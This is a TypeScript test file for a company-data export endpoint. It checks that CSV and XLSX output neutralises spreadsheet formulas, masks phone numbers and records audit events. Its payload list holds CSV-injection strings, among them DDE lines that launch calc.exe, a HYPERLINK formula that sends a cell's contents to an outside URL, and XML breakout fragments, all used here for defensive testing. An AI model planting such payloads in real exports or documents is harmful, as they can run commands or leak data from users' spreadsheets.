import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { inflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { insertCategories, insertDictionaryEntries, insertCompany } from '../../../test/companies.fixture.ts';
import { useKit } from '../../../test/kit.ts';
import { errorResponse } from '../../../test/error-responses.fixture.ts';
import { listAuditEvents, type Staff, createStaff } from '../../../test/staff.fixture.ts';

/** Names that a spreadsheet program would run as a formula (CSV injection). */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://example.com?x="&A1,"看")',
  '=IMPORTXML("https://example.com","//a")',
  '=WEBSERVICE("https://example.com")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1',
  '−1+1',
  '"=1+1',
  '",=1+1',
  '",\r\n=1+1,"',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!D2',
  '@import',
  '=1;2\t3',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><f>1</f>',
];
const FORMULA_START = /^[\s\p{Cf}]*[=+\-@＝＋－＠﹦−]|^[\t\r\n]/u;

describe('company export', () => {
  const kit = useKit();
  let staff: Staff;
  beforeAll(async () => {
    staff = await createStaff(kit, (await kit.createSuperAdmin()).token, ['company:write']);
    await insertDictionaryEntries(kit);
    for (const name_zh of PAYLOADS) await insertCompany(kit, { name_zh, industry: 'machinery' });
  });

  async function download(query: string): Promise<Buffer> {
    const response = await fetch(`${kit.baseUrl}/h5/mall/companyInfo/export?${query}`, {
      headers: { authorization: `Bearer ${staff.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="companies-/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    return Buffer.from(await response.arrayBuffer());
  }

  it('requires company:write and a known format', async () => {
    const call = (token?: string) => kit.call('GET', '/h5/mall/companyInfo/export', { token });
    expect(await call()).toMatchObject(errorResponse('session.invalid'));
    expect(await call((await kit.createMember()).token)).toMatchObject(errorResponse('forbidden'));
    expect(
      await kit.call('GET', '/h5/mall/companyInfo/export?format=xls', { token: staff.token }),
    ).toMatchObject(errorResponse('request.invalid'));
  });

  it('writes CSV without formulas and with correct quoting', async () => {
    const bytes = await download('format=csv&industry=machinery');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8'), { typeInference: false }) as string[][];
    expect(rows.length).toBe(PAYLOADS.length + 1);
    expect(rows[0]![0]).toBe('企业名称');
    for (const [index, payload] of PAYLOADS.entries()) {
      const cell = rows[index + 1]![0]!;
      expect(cell).toBe(FORMULA_START.test(payload) ? `'${payload}` : payload);
      expect(cell).not.toMatch(FORMULA_START);
    }
  });

  it('writes xlsx without formulas, in text cells only', async () => {
    const bytes = await download('format=xlsx&industry=machinery');
    const { rows } = (await readXlsx(bytes)).sheets[0]!;
    expect(rows.length).toBe(PAYLOADS.length + 1);
    for (const [index] of PAYLOADS.entries()) expect(String(rows[index + 1]![0])).not.toMatch(FORMULA_START);
    const xml = sheetXml(bytes);
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(new Set([...xml.matchAll(/<c [^>]*?t="(\w+)"/g)].map(([, type]) => type))).toEqual(
      new Set(['inlineStr']),
    );
    expect(xml.match(/<c /g)?.length).toBe(xml.match(/t="inlineStr"/g)?.length);
  });

  it('writes category names, masks contacts and applies the filter', async () => {
    const { first, second } = await insertCategories(kit);
    const company_id = await insertCompany(kit, { name_zh: '澄湖精密', region: 'suzhou' });
    await kit.deps.db
      .insertInto('company_categories')
      .values([first, second].map((category_id) => ({ company_id, category_id })))
      .execute();
    await kit.deps.db
      .insertInto('company_contacts')
      .values({ company_id, field: 'phone', value: '13800001234', audience: 'public' })
      .execute();
    kit.clock.forward(2);
    const rows = parseCsv((await download('format=csv&region=suzhou')).toString('utf8')) as string[][];
    const row = Object.fromEntries(rows[0]!.map((header, index) => [header, rows[1]![index]]));
    expect(rows.length).toBe(2);
    expect(row).toMatchObject({
      企业名称: '澄湖精密',
      地区: '苏州',
      一级分类: '设备',
      二级分类: '机床',
      手机: '138****1234',
    });
  });

  it('exports more than one page of rows and records one audit event', async () => {
    const before = (await listAuditEvents(kit, 'company.export')).length;
    await kit.deps.db
      .insertInto('companies')
      .values(Array.from({ length: 1_200 }, (_, index) => ({ name_zh: `第${index}家`, region: 'wuxi' })))
      .execute();
    const rows = parseCsv((await download('format=csv&region=wuxi')).toString('utf8')) as string[][];
    expect(new Set(rows.slice(1).map(([name]) => name)).size).toBe(1_200);
    expect((await listAuditEvents(kit, 'company.export')).length).toBe(before + 1);
  });
});

/** Unzips the first worksheet by hand, because a library might hide unexpected content. */
function sheetXml(zip: Buffer): string {
  const directoryEnd = zip.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'));
  let entryOffset = zip.readUInt32LE(directoryEnd + 16);
  for (;;) {
    const name = zip.toString(
      'utf8',
      entryOffset + 46,
      entryOffset + 46 + zip.readUInt16LE(entryOffset + 28),
    );
    if (name === 'xl/worksheets/sheet1.xml') break;
    entryOffset +=
      46 +
      zip.readUInt16LE(entryOffset + 28) +
      zip.readUInt16LE(entryOffset + 30) +
      zip.readUInt16LE(entryOffset + 32);
  }
  const size = zip.readUInt32LE(entryOffset + 20);
  const localHeader = zip.readUInt32LE(entryOffset + 42);
  const start = localHeader + 30 + zip.readUInt16LE(localHeader + 26) + zip.readUInt16LE(localHeader + 28);
  return inflateRawSync(zip.subarray(start, start + size)).toString('utf8');
}
